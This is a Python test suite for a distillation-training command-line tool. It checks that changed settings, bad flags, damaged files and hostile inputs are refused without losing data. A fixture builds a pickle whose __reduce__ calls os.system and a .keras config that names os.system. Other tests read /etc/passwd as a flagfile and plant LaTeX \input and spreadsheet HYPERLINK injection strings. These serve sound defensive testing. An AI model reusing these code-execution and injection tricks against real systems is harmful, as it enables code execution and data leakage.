"""Trustworthy re-runs: a changed setting never reuses a run, bad input never loses data.

Everything goes through run.py's own entry points in this process: `parse_flags` (flag
errors: one `error:` line, exit 2) and `main`.
"""

import hashlib
import importlib.util
import json
import os
import shutil
import stat
from pathlib import Path

import numpy as np
import pytest
from absl import flags
from absl.testing import flagsaver
from conftest import StopAtEpoch

from lskd_tf import experiment, sweep, tasks
from lskd_tf import flags as lf
from lskd_tf.run_dir import RunDir

ROOT = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("run_trust", ROOT / "run.py")
run_cli = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(run_cli)

TINY = ["--train_per_class=2", "--test_per_class=1", "--epochs=1", "--teacher_epochs=1",
        "--teacher_models=resnet8", "--temperatures=4", "--teacher_smoothings=0",
        "--verbose=0", "--analyze=false", "--export=false"]  # fmt: skip


def cli(*argv) -> int:
    """run.py with these arguments, in this process: its exit status."""
    with flagsaver.flagsaver():
        flags.FLAGS.unparse_flags()
        try:
            rest = run_cli.parse_flags(["run.py", *argv])
        except SystemExit as exit_:
            return exit_.code
        return run_cli.main(rest)


def snapshot(root: Path) -> dict[str, str]:
    """Every file under root with the SHA-256 of its bytes."""
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """A finished tiny study: one teacher, one student."""
    root = tmp_path_factory.mktemp("trust")
    args = [f"--output_dir={root}/runs", f"--tensorboard_dir={root}/tb", *TINY]
    assert cli(*args) == 0
    return root, args


def one_error_line(capsys) -> str:
    err = capsys.readouterr().err.strip()
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines and lines[-1].startswith("error: "), err
    assert "Traceback" not in err
    return lines[-1]


@pytest.mark.parametrize(
    "changed, says",
    [
        ("--teacher_epochs=2", "train.epochs: 1 → 2"),
        ("--epochs=2", "train.epochs: 1 → 2"),
        ("--lr=0.05", "train.learning_rate: 0.1 → 0.05"),
        ("--momentum=0.5", "train.momentum: 0.9 → 0.5"),
        ("--nesterov", "train.nesterov: False → True"),
        ("--weight_decay=0.001", "train.weight_decay: 0.0005 → 0.001"),
        ("--schedule=step", "train.schedule: cosine → step"),
        ("--warmup_epochs=0.5", "train.warmup_epochs: 0.0 → 0.5"),
        ("--batch_size=64", "train.batch_size: 128 → 64"),
        ("--steps_per_epoch=1", "train.steps_per_epoch: None → 1"),
        ("--jit_compile", "train.jit_compile: False → True"),
        ("--train_per_class=3", "data.options"),
        ("--mixed_precision=mixed_bfloat16", "mixed_precision: float32 → mixed_bfloat16"),
        ("--t2_scaling=false", "t2_scaling: True → False"),
        ("--use_teacher=best", "use_teacher: last → best"),
    ],
)
def test_a_changed_setting_is_refused_before_training(study, capsys, changed, says):
    root, args = study
    before = snapshot(root / "runs")
    assert cli(*args, changed) == 2
    line = one_error_line(capsys)
    assert "was trained with other settings" in line and says in line
    assert "--study=NEW" in line and "--on_conflict=overwrite" in line
    assert snapshot(root / "runs") == before  # nothing trained, nothing lost


def test_a_retrained_teacher_does_not_keep_its_old_students(study, tmp_path, capsys):
    root, args = study
    runs = tmp_path / "runs"
    shutil.copytree(root / "runs", runs)
    args = [a for a in args if not a.startswith("--output_dir")] + [f"--output_dir={runs}"]
    assert cli(*args, "--teacher_epochs=2", "--on_conflict=overwrite") == 0
    replaced = sorted(p.name.rsplit("-", 2)[0] for p in (runs / "quick" / ".replaced").iterdir())
    assert replaced == [
        "student-resnet8-T4-seed0-from-resnet8-ls0-seed0", "teacher-resnet8-ls0-seed0"
    ]  # fmt: skip
    for run in ("teacher-resnet8-ls0-seed0", "student-resnet8-T4-seed0-from-resnet8-ls0-seed0"):
        info = RunDir(runs / "quick" / run).read()
        assert info["status"] == "finished"
    teacher = RunDir(runs / "quick" / "teacher-resnet8-ls0-seed0").read()
    student = RunDir(runs / "quick" / "student-resnet8-T4-seed0-from-resnet8-ls0-seed0").read()
    assert teacher["train"]["epochs"] == 2 and student["identity"]["teacher"] == teacher["identity"]
    assert cli(*args, "--teacher_epochs=2") == 0  # the same settings again: all reused


def test_an_interrupted_run_refuses_to_resume_with_other_settings(tmp_path, capsys):
    args = [f"--output_dir={tmp_path}", f"--tensorboard_dir={tmp_path}/tb", *TINY, "--epochs=3"]
    with flagsaver.flagsaver():
        flags.FLAGS.unparse_flags()
        flags.FLAGS(["run.py", *args])
        specs = experiment.plan_study(lf.study_spec())
        env = lf.run_env()
    killed = experiment.RunEnv(**{**env.__dict__, "callbacks": (StopAtEpoch(1),)})
    with pytest.raises(KeyboardInterrupt):
        sweep.run_study(specs, killed)
    student = RunDir(env.run_dir(specs[1]))
    assert student.status() == "interrupted"
    before = snapshot(tmp_path)
    assert cli(*args[:-1], "--epochs=4", "--lr=0.01", "--teacher_lr=0.1") == 2
    line = one_error_line(capsys)
    assert "train.epochs: 3 → 4" in line and "train.learning_rate: 0.1 → 0.01" in line
    assert snapshot(tmp_path) == before
    assert cli(*args) == 0  # the same settings resume it
    assert student.is_finished() and len(student.read_history()) == 3


def test_distilling_from_another_checkpoint_is_another_run(study, tmp_path, capsys):
    root, _ = study
    teacher = root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "last.keras"
    copy = tmp_path / "teacher.keras"
    shutil.copy(teacher, copy)
    args = [f"--output_dir={tmp_path}/runs", f"--tensorboard_dir={tmp_path}/tb", *TINY,
            "--mode=distill", f"--teacher_checkpoint={copy}"]  # fmt: skip
    assert cli(*args) == 0
    shutil.copy(root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "best.keras", copy)
    other = root / "runs" / "quick" / "student-resnet8-T4-seed0-from-resnet8-ls0-seed0"
    shutil.copy(other / "last.keras", copy)  # same path, other weights
    assert cli(*args) == 2
    assert "teacher.checkpoint_sha256" in one_error_line(capsys)


def test_a_diverging_run_is_recorded_as_failed(tmp_path, capsys):
    args = [f"--output_dir={tmp_path}", f"--tensorboard_dir={tmp_path}/tb", *TINY,
            "--lr=1e30", "--mode=teacher", "--teacher_epochs=4"]  # fmt: skip
    assert cli(*args) == 2
    line = one_error_line(capsys)
    assert "the loss of epoch" in line and "marked failed" in line
    info = RunDir(tmp_path / "quick" / "teacher-resnet8-ls0-seed0").read()
    assert info["status"] == "failed" and "NonFiniteLossError" in info["error"]


BAD_FLAGS = [
    "--lr=inf", "--lr=nan", "--lr=-1", "--teacher_lr=0", "--momentum=nan", "--momentum=1",
    "--decay_rate=nan", "--decay_rate=0", "--warmup_epochs=nan", "--warmup_epochs=-1",
    "--teacher_warmup_epochs=inf", "--warmup_steps=-1", "--weight_decay=-1", "--weight_decay=inf",
    "--temperatures=inf", "--temperatures=0", "--temperatures=a", "--kd_weight=inf",
    "--kd_weight=-1", "--ce_weight=nan", "--milestones=-5", "--milestones=x",
    "--teacher_milestones=2,-1", "--seeds=-1", "--seeds=", "--teacher_seed=-1",
    "--max_runs=0", "--epochs=0", "--teacher_epochs=1e22", "--batch_size=0",
    "--train_per_class=0", "--train_per_class=1e9", "--test_per_class=0",
    "--teacher_smoothings=1", "--student_smoothing=1", "--smoothing=shen", "--dataset=mnist",
    "--teacher_models=resnet9", "--student_models=", "--pairs=resnet8", "--task=speech",
    "--kd_loss=l2", "--mode=train", "--strategy=gpu", "--mixed_precision=fp8",
    "--optimizer=lamb", "--schedule=poly", "--cache_views=0", "--cache_topk=-1",
    "--teacher_cache=all", "--profile_batches=3", "--study=../../x", "--study=a/b",
    "--study=", "--on_conflict=merge", "--unknown_flag=1",
]  # fmt: skip


@pytest.mark.parametrize("bad", BAD_FLAGS)
def test_bad_flags_fail_in_one_line_and_lose_nothing(study, capsys, bad):
    root, args = study
    before = snapshot(root)
    assert cli(*args, bad) == 2
    line = one_error_line(capsys)
    name = bad.split("=")[0].lstrip("-")
    assert name in line or "unknown" in line.lower()
    assert snapshot(root) == before


def test_bad_values_the_flags_cannot_see_fail_before_any_work(study, tmp_path, capsys):
    root, args = study
    cases = [
        (["--kd_weight=0", "--ce_weight=0"], "nothing to train on"),
        (["--schedule=inverse_sqrt"], "set warmup_steps"),
        (["--warmup_epochs=1", "--warmup_steps=10"], "give the warmup once"),
        (["--teacher_cache=exact", "--cache_topk=100"], "topk"),
        (["--mode=evaluate"], "--checkpoint"),
        (
            ["--mode=export", f"--checkpoint={tmp_path}/none.keras", f"--export_dir={tmp_path}/e"],
            "does not exist",
        ),
        (["--mode=results", f"--run_dirs={tmp_path}/nothing"], "no runs found"),
        (  # in a new study: in this one, the changed data is refused first
            ["--data_option=lightning=0.1", f"--output_dir={tmp_path}/new"],
            "valid options: data_seed, shuffle_buffer",
        ),
        (["--data_option=lighting"], "expected key=value"),
    ]
    for extra, says in cases:
        before = snapshot(root)
        assert cli(*args, *extra) == 2, extra
        assert says in one_error_line(capsys), extra
        assert snapshot(root) == before


def test_bad_files_and_directories_fail_in_one_line(study, tmp_path, capsys):
    root, args = study
    not_a_dir = tmp_path / "file"
    not_a_dir.write_text("x")
    truncated = tmp_path / "truncated.keras"
    teacher = root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "last.keras"
    truncated.write_bytes(teacher.read_bytes()[:1000])
    read_only = tmp_path / "read_only"
    read_only.mkdir()
    read_only.chmod(stat.S_IRUSR | stat.S_IXUSR)
    cases = [
        ([f"--output_dir={not_a_dir}"], "file"),
        ([f"--tensorboard_dir={not_a_dir}"], "file"),
        ([f"--output_dir={tmp_path / ('x' * 300)}"], "name too long"),
        (["--mode=distill", f"--teacher_checkpoint={truncated}"], "truncated.keras"),
        (["--mode=distill", f"--teacher_checkpoint={not_a_dir}"], "file"),
    ]
    if os.geteuid() != 0:  # root may write anywhere
        cases.append(([f"--output_dir={read_only}"], "ermission"))
    for extra, says in cases:
        assert cli(*args, *extra) == 2, extra
        line = one_error_line(capsys)
        assert says in line, (extra, line)
    garbage = tmp_path / "garbage"
    shutil.copytree(root / "runs", garbage)
    run_json = garbage / "quick" / "teacher-resnet8-ls0-seed0" / "run.json"
    for content in ("not json", "[1, 2]"):
        run_json.write_text(content)
        for mode in ("study", "results"):
            assert cli(*args, f"--output_dir={garbage}", f"--mode={mode}") == 2
            line = one_error_line(capsys)
            assert str(run_json) in line and "delete the run directory" in line
        assert run_json.read_text() == content  # never overwritten


def test_bad_translation_input_fails_in_one_line_and_loses_nothing(study, tmp_path, capsys):
    root, _ = study
    image_teacher = root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "last.keras"
    base = [f"--output_dir={root}/runs", f"--tensorboard_dir={root}/tb", "--task=translation",
            "--teacher_models=transformer_tiny", "--student_models=transformer_tiny",
            "--train_size=200", "--epochs=1", "--teacher_epochs=1", "--verbose=0",
            "--analyze=false", "--export=false"]  # fmt: skip
    cases = [
        (["--teacher_models=resnet8"], "unknown model 'resnet8'"),
        (["--dataset=cifar100"], "unknown dataset 'cifar100'"),
        (["--dataset=iwslt14", f"--data_dir={tmp_path / 'nowhere'}"], "prepare-iwslt14.sh"),
        (["--dataset=wmt14_translate/de-en", f"--data_dir={tmp_path}"],
         "tfds build wmt14_translate/de-en"),
        # a checkpoint of another vocabulary (here: an image model with 10 outputs)
        (["--mode=distill", f"--teacher_checkpoint={image_teacher}"], "another vocabulary"),
        (["--max_tokens=16"], "less than one sentence pair"),
        (["--source_language=xx", "--dataset=iwslt14"], "xx"),
    ]  # fmt: skip
    before = snapshot(root)
    for extra, says in cases:
        # --train_size sizes the embedded corpus only: with another dataset it is refused
        other_data = any(a.startswith("--dataset=") for a in extra)
        args = [a for a in base if not (other_data and a.startswith("--train_size"))]
        assert cli(*args, *extra) == 2, extra
        line = one_error_line(capsys)
        assert says in line, (extra, line)
    assert snapshot(root) == before


# ----------------------------------------------------------------------------- issue #23


@pytest.fixture(scope="module")
def bad_files(study, tmp_path_factory):
    """Files a user might pass by mistake (or malice), each a case of issue #23."""
    import pickle
    import zipfile

    from safetensors.numpy import save_file

    root, _ = study
    out = tmp_path_factory.mktemp("bad_files")
    teacher = root / "runs" / "quick" / "teacher-resnet8-ls0-seed0" / "last.keras"
    files = {"teacher": teacher, "dir": out}
    files["latin1_flags"] = out / "latin1.flags"
    files["latin1_flags"].write_bytes("--epochs=1\n# caf\xe9\n".encode("latin-1"))
    whole = out / "whole.safetensors"
    save_file({"fc.weight": np.ones((10, 64), np.float32)}, str(whole))
    files["truncated_st"] = out / "truncated.safetensors"
    files["truncated_st"].write_bytes(whole.read_bytes()[:-100])
    header_length = int.from_bytes(whole.read_bytes()[:8], "little")
    files["header_only_st"] = out / "header_only.safetensors"
    files["header_only_st"].write_bytes(whole.read_bytes()[: 8 + header_length])
    files["evil_keras"] = out / "evil.keras"
    with zipfile.ZipFile(teacher) as src, zipfile.ZipFile(files["evil_keras"], "w") as dst:
        for name in src.namelist():
            data = src.read(name)
            if name == "config.json":
                data = data.replace(b'"module": "keras.layers", "class_name": "ReLU"',
                                    b'"module": "os", "class_name": "system"')  # fmt: skip
                assert b'"system"' in data
            dst.writestr(name, data)
    files["empty_keras"] = out / "empty.keras"
    files["empty_keras"].write_bytes(b"")
    files["text_keras"] = out / "text.keras"
    files["text_keras"].write_text("not a zip archive\n")

    class Evil:
        def __reduce__(self):
            return (os.system, ("true",))

    files["evil_pth"] = out / "evil.pth"
    files["evil_pth"].write_bytes(pickle.dumps({"conv1.weight": Evil()}))
    files["a_file"] = out / "a_file"
    files["a_file"].write_text("x")
    text = out / "text_data"
    text.mkdir()
    for split in ("train", "valid", "test"):
        (text / f"{split}.de").write_text("ein haus\n\nein baum\n")
        (text / f"{split}.en").write_text("a house\na car\na tree\n")
    files["text_data"] = text
    empty_text = out / "empty_text"
    empty_text.mkdir()
    for split in ("train", "valid", "test"):
        for lang in ("de", "en"):
            (empty_text / f"{split}.{lang}").write_text("" if split == "train" else "x\n")
    files["empty_text"] = empty_text
    return files


TRANSLATION = ["--task=translation", "--teacher_models=transformer_tiny",
               "--student_models=transformer_tiny", "--epochs=1", "--teacher_epochs=1",
               "--verbose=0", "--analyze=false", "--export=false"]  # fmt: skip
TINY_NO_DATA_SIZE = [a for a in TINY if not a.startswith(("--train_per_class", "--test_per_class"))]

# (issue item, arguments after a fresh --output_dir, what the one error line says)
BAD_INPUTS = [
    ("4 non-UTF-8 flagfile", [*TINY, "--flagfile={latin1_flags}"], "latin1.flags is not UTF-8"),
    ("4 truncated safetensors, teacher weights", [*TINY, "--teacher_pretrained={truncated_st}"],
     "truncated.safetensors is not a complete .safetensors file"),
    ("4 header-only safetensors, checkpoint",
     [*TINY, "--mode=distill", "--teacher_checkpoint={header_only_st}"],
     "header_only.safetensors is not a complete .safetensors file"),
    ("4 .keras naming a non-Keras class, checkpoint",
     [*TINY, "--mode=distill", "--teacher_checkpoint={evil_keras}"], "names class 'system'"),
    ("4 .keras naming a non-Keras class, weights", [*TINY, "--pretrained={evil_keras}"],
     "names class 'system'"),
    ("4 export_dir is a file",
     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir={a_file}"],
     "a_file is a file"),
    ("4 export_dir below a file",
     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir={a_file}/export"],
     "is a file, not a directory"),
    ("4 export_dir on a read-only file system",
     [*TINY, "--mode=export", "--checkpoint={teacher}", "--export_dir=/proc/lskd_export"],
     "cannot write in /proc"),
    ("5 0-byte .keras", [*TINY, "--mode=evaluate", "--checkpoint={empty_keras}"],
     "empty.keras is empty (0 bytes)"),
    ("5 non-zip .keras", [*TINY, "--mode=evaluate", "--checkpoint={text_keras}"],
     "text.keras is not a .keras file (not a zip archive)"),
    ("5 unknown model as a weights key", [*TINY, "--pretrained=nosuchmodel={a_file}"],
     "'nosuchmodel' is not a valid key"),
    ("5 batch larger than the dataset", [*TINY, "--batch_size=512", "--mode=teacher"],
     "batch size 512 is larger than the dataset: embedded's train split has 200 examples"),
    ("5 translation bad lines name a flag",
     [*TRANSLATION, "--dataset=text", "--data_dir={text_data}", "--source_language=de",
      "--target_language=en"], "--bad_lines=skip"),
    ("5 a flagfile that is no flagfile", ["--flagfile=/etc/passwd"], "unexpected argument"),
    ("6 teacher_checkpoint in a study", [*TINY, "--teacher_checkpoint=/nonexistent.keras"],
     "--teacher_checkpoint is read only by --mode=distill"),
    ("6 checkpoint in a study", [*TINY, "--checkpoint={teacher}"], "--checkpoint is read only"),
    ("6 export_dir in a study", [*TINY, "--export_dir={dir}"], "--export_dir is read only"),
    ("6 run_dirs in a study", [*TINY, "--run_dirs={dir}"], "--run_dirs is read only"),
    ("6 translation flag on images", [*TINY, "--source_language=de"],
     "--source_language is not an option of --dataset=embedded"),
    ("6 translation flag on images", [*TINY, "--max_tokens=100"],
     "--max_tokens is not an option of --dataset=embedded"),
    ("6 embedded-only flag on another dataset",
     [*TINY, "--dataset=cifar100", "--data_dir={dir}"],
     "--train_per_class is not an option of --dataset=cifar100"),
    ("issue 22: unknown data option", [*TINY, "--data_option=colour=1"],
     "unknown option(s) colour for dataset 'embedded'; valid options: data_seed, "),
    ("6 teacher weights for no teacher", [*TINY, "--teacher_pretrained=0.5={a_file}"],
     "no teacher has label smoothing 0.5"),
    ("6 student weights for no student", [*TINY, "--pretrained=resnet20={a_file}"],
     "no student is a resnet20"),
    ("6 verbose", [*TINY, "--verbose=7"], "--verbose must be 0"),
    ("7 pickle with code refused before the teacher trains", [*TINY, "--pretrained={evil_pth}"],
     "evil.pth"),
    ("8 text dataset from the command line",
     [*TRANSLATION, "--dataset=text", "--data_dir={empty_text}", "--source_language=de",
      "--target_language=en"], "train.de and"),
    ("10 T underflows", [*TINY, "--temperatures=1e-30"], "within [0.01, 100]"),
    ("10 T overflows", [*TINY, "--temperatures=1e30"], "within [0.01, 100]"),
    ("11 empty translation train file",
     [*TRANSLATION, "--dataset=text", "--data_dir={empty_text}", "--source_language=de",
      "--target_language=en"], "is empty"),
]  # fmt: skip


@pytest.mark.parametrize("item, args, says", BAD_INPUTS, ids=[row[0] for row in BAD_INPUTS])
def test_bad_input_is_one_line_before_any_work(bad_files, tmp_path, capsys, item, args, says):
    """Each case of issue #23: exit 2, one `error:` line saying what to do, nothing
    trained first and nothing lost."""
    args = [a.format(**bad_files) for a in args]
    before = snapshot(bad_files["dir"])
    code = cli(f"--output_dir={tmp_path}/runs", f"--tensorboard_dir={tmp_path}/tb", *args)
    line = one_error_line(capsys)
    assert code == 2, (item, line)
    assert says in line, (item, line)
    assert len(line) < 800, line  # one line, not a file's contents
    assert snapshot(bad_files["dir"]) == before
    started = [p.parent.name for p in (tmp_path / "runs").rglob("run.json")]
    assert not started, started


@pytest.mark.parametrize(
    "task, dataset",
    [(t, d) for t in ("image_classification", "translation") for d in
     tasks.get(t).datasets() if d != "embedded"],
)  # fmt: skip
def test_every_dataset_name_passes_flag_validation(tmp_path, capsys, task, dataset):
    """Through run.py: a dataset's name passes the flags; its missing files are then
    one line saying how to get them (never a flag-validation error)."""
    extra = ["--source_language=de", "--target_language=en"] if dataset == "text" else []
    models = ["--teacher_models=transformer_tiny", "--student_models=transformer_tiny"] if (
        task == "translation") else ["--teacher_models=resnet8"]  # fmt: skip
    code = cli(f"--task={task}", f"--dataset={dataset}", f"--data_dir={tmp_path}",
               f"--output_dir={tmp_path}/runs", f"--tensorboard_dir={tmp_path}/tb",
               *models, *extra)  # fmt: skip
    line = one_error_line(capsys)
    assert code == 2 and "--helpfull" not in line, line
    assert str(tmp_path) in line or dataset.split("/")[0] in line, line
    # issue #25: refused before writing anything (no HParams file, run dir, flags.txt)
    written = [p for d in ("runs", "tb") for p in (tmp_path / d).rglob("*") if p.is_file()]
    assert not written, written


def test_stray_argument_exits_2_from_the_shell(tmp_path):
    """Issue #25 item 9: a stray positional argument is exit status 2, as the README says
    (absl's UsageError made it 1): needs the real process."""
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, str(ROOT / "run.py"), "stray", f"--output_dir={tmp_path}"],
        capture_output=True, text=True, timeout=300,
        env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3"},
    )  # fmt: skip
    assert done.returncode == 2, done.stderr[-1000:]
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("error: 1 unexpected argument(s) 'stray'"), last
    assert not any(tmp_path.iterdir())


def test_run_json_strings_cannot_inject_latex_or_spreadsheet_formulas(study, tmp_path):
    root, args = study
    runs = tmp_path / "runs"
    shutil.copytree(root / "runs", runs)
    run_json = runs / "quick" / "teacher-resnet8-ls0-seed0" / "run.json"
    info = json.loads(run_json.read_text())
    info["spec"]["model"] = r"\input{/etc/hostname}"
    info["spec"]["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
    run_json.write_text(json.dumps(info))
    assert cli(f"--output_dir={runs}", "--mode=results") == 0
    tables = runs / "quick" / "results"
    tex = (tables / "teachers.tex").read_text()
    assert r"\input{" not in tex and r"\textbackslash{}input\{/etc/hostname\}" in tex
    csv_text = (tables / "runs.csv").read_text()
    assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text
    for table in ("teachers.csv", "students.csv"):
        for cell in (tables / table).read_text().replace("\n", ",").split(","):
            assert not cell.startswith(("=", "@")), (table, cell)


def test_a_damaged_history_csv_is_reported(study, tmp_path, capsys):
    root, _ = study
    runs = tmp_path / "runs"
    shutil.copytree(root / "runs", runs)
    history = runs / "quick" / "teacher-resnet8-ls0-seed0" / "history.csv"
    for garbage in ("epoch,loss\nabc,def\n", "\x00\xff garbage", "epoch,loss\n1,0.5\n3,0.4\n",
                    "loss\n0.5\n", "epoch,loss\n"):  # fmt: skip
        history.write_text(garbage)
        assert cli(f"--output_dir={runs}", "--mode=results") == 2
        line = one_error_line(capsys)
        assert f"{history} is damaged" in line and "delete the run directory" in line
        assert history.read_text() == garbage, garbage  # never overwritten


def _corpus(directory: Path, animal: str, lines: int = 40) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for split in ("train", "valid", "test"):
        (directory / f"{split}.de").write_text(
            "".join(f"die {animal} {i % 7} ist klein\n" for i in range(lines))
        )
        (directory / f"{split}.en").write_text(
            "".join(f"the cat {i % 7} is small\n" for i in range(lines))
        )


def test_other_sentences_under_the_same_name_are_refused(tmp_path, capsys):
    """Issue #25: another --data_dir, or train.de edited in place (vocabulary folder
    removed), used to report the old run as if it matched."""
    data, other = tmp_path / "data", tmp_path / "other"
    _corpus(data, "katze")
    _corpus(other, "maus")
    args = [f"--output_dir={tmp_path}/runs", f"--tensorboard_dir={tmp_path}/tb",
            "--task=translation", "--dataset=iwslt14", "--vocab_size=40",
            "--teacher_models=transformer_tiny", "--student_models=transformer_tiny",
            "--mode=teacher", "--verbose=0"]  # fmt: skip
    # The finished run as training records it (identity and fingerprint), without the
    # training itself: the refusal happens before any training.
    with flagsaver.flagsaver():
        flags.FLAGS.unparse_flags()
        flags.FLAGS(["run.py", *args, f"--data_dir={data}"])
        spec, env = lf.single_run_spec(), lf.run_env()
    found = experiment.identity.check(spec, env)
    RunDir(env.run_dir(spec)).write(
        experiment.identity.with_identity({"status": "finished", **spec.record()}, found)
    )
    runs = tmp_path / "runs"
    before = snapshot(runs)
    assert cli(*args, f"--data_dir={data}") == 0  # the same sentences: reused
    assert snapshot(runs) == before
    assert cli(*args, f"--data_dir={other}") == 2
    line = one_error_line(capsys)
    assert "was trained with other settings" in line and "data.content.files" in line
    assert snapshot(runs) == before
    train_de = data / "train.de"
    train_de.write_text(train_de.read_text().replace("katze", "hund"))
    shutil.rmtree(next(data.glob("vocab-*")))
    assert cli(*args, f"--data_dir={data}") == 2
    line = one_error_line(capsys)
    assert "data.content.files.train.de" in line and "vocabulary_sha256" in line
    assert snapshot(runs) == before
